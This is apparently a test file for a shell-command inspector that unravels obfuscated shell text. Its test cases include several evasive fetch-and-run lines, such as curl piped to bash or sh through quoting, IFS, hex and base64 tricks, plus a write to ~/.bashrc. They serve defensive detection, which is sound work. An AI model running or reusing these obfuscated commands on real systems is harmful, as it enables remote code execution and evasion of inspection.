import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from posthouse.inspection.reading.shell import Tangled, commands


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("c'u'rl http:\"//\"example.com | b\\ash", ["curl http://example.com", "bash"]),
        ("a=h;b=s;curl${IFS}-s|$b$a", ["curl -s", "sh"]),
        ("IFS=_;X=curl_-s;$X|sh", ["curl -s", "sh"]),
        ("eval \"$(printf '\\x63url')\"", ["eval curl"]),
        ("$(echo bHM= | base64 -d) -l", ["ls -l"]),
        ("sh <(curl example.com)", ["curl example.com", "sh <(curl example.com)"]),
    ],
)
def test_words_are_what_a_shell_would_run(text: str, words: list[str]) -> None:
    found = [" ".join(command.words) for command in commands(text)]
    assert [one for one in found if one in words] == words


def test_a_pipeline_a_document_and_a_redirection_are_followed() -> None:
    found = commands("cat <<'E' | sh > /tmp/out\nls\nE\n")
    assert [command.words for command in found] == [("cat",), ("sh",)]
    assert found[1].before[0].text == "ls\n"
    (written,) = commands("echo x >> ~/.bashrc")
    assert written.writes == ("~/.bashrc",)


@pytest.mark.parametrize("part", ["(", "$(", '"', "{", "<<A ", "`", "$((", "if ", "a&&", "f(){ "])
def test_no_nesting_breaks_the_reader(part: str) -> None:
    try:
        commands(part * 9000)
    except Tangled:
        return


def test_what_would_take_too_long_is_refused() -> None:
    with pytest.raises(Tangled):
        commands("a|" * 20_000)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="ab $(){}'\"`|&;<>\\\n=-#!*?[]~0\u202e", max_size=120))
def test_any_text_is_read(text: str) -> None:
    commands(text)
